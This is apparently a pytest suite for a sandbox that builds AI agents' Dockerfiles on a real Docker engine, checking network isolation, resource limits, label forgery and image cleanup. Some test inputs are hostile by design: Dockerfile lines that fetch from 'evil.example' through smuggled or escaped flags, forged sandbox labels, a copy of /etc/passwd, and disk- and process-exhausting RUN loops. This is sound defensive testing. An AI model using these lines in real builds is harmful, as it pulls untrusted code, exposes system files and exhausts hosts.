"""Agents' Dockerfiles built by a real engine: what a build reaches, what limits it, what it leaves."""

from __future__ import annotations

import io
import socket
import tarfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import docker
import pytest
from docker.models.containers import Container

from botbottle.backends.accounts import HOME_LABEL, home_mark, sandbox_labels, sandbox_name
from botbottle.backends.docker import build as docker_build
from botbottle.backends.docker import sources
from botbottle.backends.docker.backend import DockerBackend
from botbottle.backends.docker.build import BuildLimits, DockerImages
from botbottle.core.plan_types import BackendError, Plan
from botbottle.dockerfiles.parse import digest_of
from tests.support.docker_engine import Engine, docker_host, engine
from tests.support.docker_images import PYTHON_IMAGE, SHELL_IMAGE

__all__ = ["docker_host", "engine"]
pytestmark = [pytest.mark.process, pytest.mark.docker, pytest.mark.usefixtures("docker_host")]
SLUG = "demo"
FORGED = "LABEL bot-bottle.dockerfile=forged bot-bottle.slug=other bot-bottle.home=other\n"


class Builds:
    def __init__(self, home: Path, client: docker.DockerClient) -> None:
        self.home, self.client = home, client
        self.sockets = home / "bottles" / SLUG / "sockets"
        self.sockets.mkdir(parents=True)
        self.said: list[str] = []

    def build(self, *lines: str, base: str = PYTHON_IMAGE, **more: BuildLimits) -> str:
        text = f"FROM {base}\n" + "".join(f"{line}\n" for line in lines)
        return docker_build.rebuild(self.client, self.home, SLUG, text, self.said.append, **more)

    def leftovers(self) -> list[str]:
        """This home's containers and its gate, and steps whose gate is gone; others use the same engine."""
        own = sandbox_name(self.home, SLUG)
        gate = own.replace("bot-bottle-", "bot-bottle-gate-", 1)
        found = self.client.containers.list(all=True, ignore_removed=True)
        return [each.name for each in found if each.name in (own, gate) or self._has_lost_its_gate(each)]

    def _has_lost_its_gate(self, container: Container) -> bool:
        """A step of a build has no label of ours, but the network of its gate."""
        kind, _, gate = container.attrs["HostConfig"]["NetworkMode"].partition(":")
        return kind == "container" and not self._exists(gate) and self._exists(container.id)

    def _exists(self, container: str) -> bool:
        try:
            self.client.containers.get(container)
        except docker.errors.NotFound:
            return False
        return True

    def images(self) -> list[str]:
        filters = {"label": f"{HOME_LABEL}={home_mark(self.home)}"}
        return sorted(image.id for image in self.client.images.list(all=True, filters=filters))


@pytest.fixture
def builds(tmp_path: Path, engine: Engine) -> Iterator[Builds]:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    client = docker.DockerClient(base_url=engine.url, timeout=60)
    made = Builds(home, client)
    yield made
    assert made.leftovers() == []
    DockerBackend(home).remove(SLUG)
    client.close()


@contextmanager
def proxy(path: Path) -> Iterator[list[str]]:
    """Says which host each request names, and answers with a program."""
    asked: list[str] = []
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        path.chmod(0o666)
        listener.listen()

        def serve() -> None:
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    asked.append(connection.recv(65536).decode().splitlines()[0])
                    body = "#!/bin/sh\necho new tool\n"
                    head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
                    connection.sendall((head + body).encode())

        threading.Thread(target=serve, daemon=True).start()
        yield asked
        listener.shutdown(socket.SHUT_RDWR)


def test_a_build_reaches_the_proxy_and_nothing_else(builds: Builds) -> None:
    with proxy(builds.sockets / "proxy.sock") as asked:
        image = builds.build(
            "RUN curl -sf http://tools.example.com/newtool -o /usr/bin/newtool",
            # No interface but loopback, no agent plane, and no name that could be resolved without the proxy.
            'RUN test "$(ls /sys/class/net)" = lo && ! ip route | grep .',
            "RUN ! curl -s -m 3 http://127.0.0.1:9100/health",
            "RUN ! curl -s -m 3 --noproxy '*' http://tools.example.com/",
        )
    assert asked == ["GET http://tools.example.com/newtool HTTP/1.1"]
    found = builds.client.images.get(image)
    assert not [entry for entry in found.attrs["Config"]["Env"] or [] if "proxy" in entry.lower()]
    assert "9101" not in str(found.history()), "how the proxy is found is not kept in the image"


def test_the_context_holds_the_dockerfile_alone(builds: Builds) -> None:
    image = builds.build("COPY . /context", "RUN ls -a /context > /list")
    assert DockerBackend(builds.home).read(image, "/list") == ".\n..\nDockerfile\n"


def test_the_digest_of_the_text_is_the_images_label_whatever_the_text_says(builds: Builds) -> None:
    text = f"FROM {PYTHON_IMAGE}\n{FORGED}"
    image = docker_build.rebuild(builds.client, builds.home, SLUG, text, builds.said.append)
    digest = digest_of(text)
    docker_build.verify(builds.client, image, digest)
    labels = builds.client.images.get(image).labels
    assert sandbox_labels(builds.home, SLUG).items() <= labels.items()
    with pytest.raises(BackendError, match="was not built from the approved Dockerfile"):
        docker_build.verify(builds.client, image, digest_of(text + "\n"))
    with pytest.raises(BackendError, match="is gone"):
        docker_build.verify(builds.client, "localhost/nosuch:1", digest)


def test_a_build_step_that_wears_a_bottles_labels_is_not_taken_for_it(builds: Builds) -> None:
    """An agent may write any label: of a running bottle, of its own home."""
    worn = " ".join(f"{name}={value}" for name, value in sandbox_labels(builds.home, "victim").items())
    container = builds.client.containers.create(
        PYTHON_IMAGE, ["sleep", "60"], labels=dict(pair.split("=") for pair in worn.split()), init=False
    )
    try:
        container.start()
        assert not DockerBackend(builds.home).life("victim").alive
    finally:
        container.remove(force=True)


@pytest.mark.parametrize(
    ("line", "limits", "sentence"),
    [
        ("RUN sleep 600", BuildLimits(seconds=3), "took longer than"),
        ("RUN while true; do echo 0123456789 >> /big; cat /big /big >> /big2; done",
         BuildLimits(written=5 * 1024**2), "wrote more than 0.0049 GiB"),
    ],
)  # fmt: skip
def test_a_build_is_bounded(builds: Builds, line: str, limits: BuildLimits, sentence: str) -> None:
    with pytest.raises(BackendError, match=sentence):
        builds.build(line, limits=limits)


def test_a_build_that_takes_too_much_memory_is_ended(builds: Builds) -> None:
    with pytest.raises(BackendError, match="non-zero code: 137"):
        builds.build(
            "RUN python3 -c \"b'x' * 500_000_000; print('had it')\"", limits=BuildLimits(memory=100 * 1024**2)
        )


def test_a_step_has_only_so_many_processes(builds: Builds) -> None:
    limit = "cat /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max 2>/dev/null"
    bounded = f"until test $({limit}) = 40; do sleep 1; done"
    with pytest.raises(BackendError, match=r"(?s)not built.*can't fork"):
        builds.build(
            f"RUN {bounded}; for n in $(seq 60); do sleep 9 & done",
            limits=BuildLimits(seconds=60, processes=40),
        )


def test_a_base_with_volumes_is_refused(builds: Builds) -> None:
    with io.BytesIO() as archive:
        tarfile.open(fileobj=archive, mode="w").close()
        changes = ["VOLUME /v"]
        builds.client.api.import_image_from_data(archive.getvalue(), "volumes", tag="1", changes=changes)
    try:
        with pytest.raises(BackendError, match=r"line 1: the image 'volumes:1' has volumes \(/v\)"):
            builds.build(base="volumes:1")
    finally:
        builds.client.images.remove("volumes:1")


def test_the_engine_runs_the_instructions_that_were_checked(builds: Builds) -> None:
    builds.build(
        "RUN echo one && \\", "  # a comment", "", "\t# another", "\techo \\", "two \\\\ three", "USER agent",
        "# escape comes too late here", "ENV A=1 \\ ", "  B='2 3'",
    )  # fmt: skip
    steps = [line.partition(" : ")[2] for line in builds.said if line.startswith("Step ")]
    assert [step for step in steps if not step.startswith("LABEL bot-bottle.")] == [
        f"FROM {PYTHON_IMAGE}", "RUN echo one && \techo two \\\\ three", "USER agent", "ENV A=1   B='2 3'",
    ]  # fmt: skip
    assert "two \\ three" in builds.said


@pytest.mark.parametrize(
    "line",
    ["COPY --fr\\om=evil.example/x /a /b", "COPY --from=99999999999999999999 /a /b", "COPY --from=me /a /b",
     "RUN true \\\n\x1c\nADD http://evil.example/x /x"],
)  # fmt: skip
def test_what_the_engine_would_fetch_does_not_reach_it(builds: Builds, line: str) -> None:
    with pytest.raises(BackendError, match=r"line [23]: "):
        builds.build(line, base=f"{PYTHON_IMAGE} AS me")
    assert builds.said == []


def test_it_is_told_when_a_name_stands_for_another_image_than_before(builds: Builds) -> None:
    builds.client.images.get(PYTHON_IMAGE).tag("moving", "1")
    builds.build("RUN echo 1", base="moving:1")
    builds.build("RUN echo 2", base="moving:1")
    assert not [line for line in builds.said if "another image" in line]
    builds.client.images.get(SHELL_IMAGE).tag("moving", "1")
    builds.build("RUN echo 3", base="moving:1")
    assert [line for line in builds.said if line.startswith("moved tag: moving:1 is another image than")]
    builds.client.images.remove("moving:1")


@pytest.fixture
def moving(builds: Builds) -> Iterator[Callable[[str], str]]:
    """Lets moving:1 stand for another image; returns the id."""

    def move(image: str) -> str:
        builds.client.images.get(image).tag("moving", "1")
        return str(builds.client.images.get("moving:1").id).removeprefix("sha256:")[:12]

    yield move
    builds.client.images.remove("moving:1")


def test_a_moved_name_is_told_of_without_a_build(builds: Builds, moving: Callable[[str], str]) -> None:
    own = DockerImages(builds.home, SLUG)
    old = moving(PYTHON_IMAGE)
    image = own.build("FROM moving:1\nRUN echo 1\n", builds.said.append, image="")
    text = f"FROM {PYTHON_IMAGE}\nCOPY --from=moving:1 /etc/passwd /p\n"
    assert own.compare(text, image, 10) == []
    new = moving(SHELL_IMAGE)
    before = builds.images()
    (told,) = own.compare(text, image, 10)
    assert told.startswith(
        "moved tag: moving:1 is another image than the bottle's present one was built on: "
    )
    assert told.endswith(f": {new}, so far {old}")
    assert own.compare(f"FROM {PYTHON_IMAGE}\n", image, 10) == []
    assert builds.images() == before
    own.build(text, builds.said.append, image=image)
    assert [line for line in builds.said if line.startswith("moved tag: ")] == own.compare(text, image, 10)


def test_what_would_make_a_build_fail_is_told_of_without_one(builds: Builds) -> None:
    text = "FROM nosuch:1\n" + "".join(f"COPY --from=other:{number} /a /b\n" for number in range(30))
    told = DockerImages(builds.home, SLUG).compare(text, "", 10)
    assert told[0].startswith("the build would fail: line 1: the Docker engine has no image 'nosuch:1'")
    assert told[-1] == "it names 31 images, of which only 20 were compared"
    assert len(told) == 21


@pytest.mark.parametrize("is_pulled", [False, True], ids=["there", "pulled by the build"])
def test_the_manifests_own_build_says_what_its_names_stood_for(
    builds: Builds, moving: Callable[[str], str], monkeypatch: pytest.MonkeyPatch, *, is_pulled: bool
) -> None:
    moving(PYTHON_IMAGE)
    dockerfile = builds.home / "Dockerfile"
    dockerfile.write_text(
        "ARG A=1\nFROM --platform=linux/amd64 moving:1 AS one\nADD Dockerfile /x\nFROM one\n"
    )
    if is_pulled:
        real, looks = sources.ids_of, []

        def at_second_look(client: docker.DockerClient, names: list[str]) -> dict[str, str]:
            looks.append(names)
            return real(client, names) if len(looks) > 1 else {}

        monkeypatch.setattr(sources, "ids_of", at_second_look)
    plan = Plan(SLUG, "docker", str(builds.home), dockerfile=str(dockerfile))
    backend = DockerBackend(builds.home)
    image = backend.build(plan, builds.said.append)
    assert backend.build(plan, pytest.fail) == image, "it is not built again"
    own, text = DockerImages(builds.home, SLUG), "FROM moving:1\n"
    assert own.compare(text, "", 10) == []
    moving(SHELL_IMAGE)
    (told,) = own.compare(text, "", 10)
    assert told.startswith("moved tag: moving:1 ")


def test_an_image_that_runs_as_it_is_is_known_by_its_container(
    builds: Builds, moving: Callable[[str], str]
) -> None:
    old = moving(PYTHON_IMAGE)
    own = DockerImages(builds.home, SLUG)
    name = sandbox_name(builds.home, SLUG)
    container = builds.client.containers.create(old, ["sleep", "60"], name=name, network_mode="none")
    try:
        assert own.compare("FROM moving:1\n", "moving:1", 10) == []
        new = moving(SHELL_IMAGE)
        (told,) = own.compare("FROM moving:1\n", "moving:1", 10)
        assert told.endswith(f"so far {old}")
        rebuilt = own.build("FROM moving:1\nRUN echo 1\n", builds.said.append, image="moving:1")
        moving(PYTHON_IMAGE)
        (told,) = own.compare("FROM moving:1\n", rebuilt, 10)
        assert told.endswith(f"so far {new}"), "rebuilt while stopped: the container is older"
        container.start()
        assert own.compare("FROM moving:1\n", rebuilt, 10) == [], "what runs has no such source"
    finally:
        container.remove(force=True)


def test_a_failing_build_says_why_and_how_its_log_ended(builds: Builds) -> None:
    with pytest.raises(BackendError, match=r"(?s)not built: .*non-zero code: 3.*log:\n.*almost.*code: 3"):
        builds.build("RUN echo almost; exit 3")
    assert "almost" in builds.said


def test_the_gate_of_a_killed_build_is_cleared(builds: Builds) -> None:
    with docker_build._gate(builds.client, builds.home, SLUG) as gate:
        assert gate.name in builds.leftovers()
        docker_build.clear(builds.client, builds.home, SLUG)
        assert builds.leftovers() == []
    docker_build.clear(builds.client, builds.home, SLUG)


def test_the_last_images_are_kept_and_others_go(builds: Builds) -> None:
    repository = sandbox_name(builds.home, SLUG)
    before = docker_build.retain(builds.client, PYTHON_IMAGE, repository)
    assert builds.client.images.get(before).id == builds.client.images.get(PYTHON_IMAGE).id
    made = [builds.build(f"RUN echo {number} > /number") for number in range(3)]
    assert docker_build.retain(builds.client, made[0], repository) == made[0], "it has a name already"
    docker_build.prune(builds.client, repository, {before, made[2]})
    left = {tag for image in builds.client.images.list() for tag in image.tags}
    assert left & {before, *made} == {before, made[2]}
    assert PYTHON_IMAGE in left
    docker_build.prune(builds.client, repository, set())
    builds.client.images.get(PYTHON_IMAGE)


def test_the_sockets_are_no_files_of_the_build(builds: Builds) -> None:
    (builds.sockets / "note").write_text("x")
    builds.build("RUN test ! -e /run/bot-bottle")
    assert [path.name for path in builds.sockets.iterdir()] == ["note"]
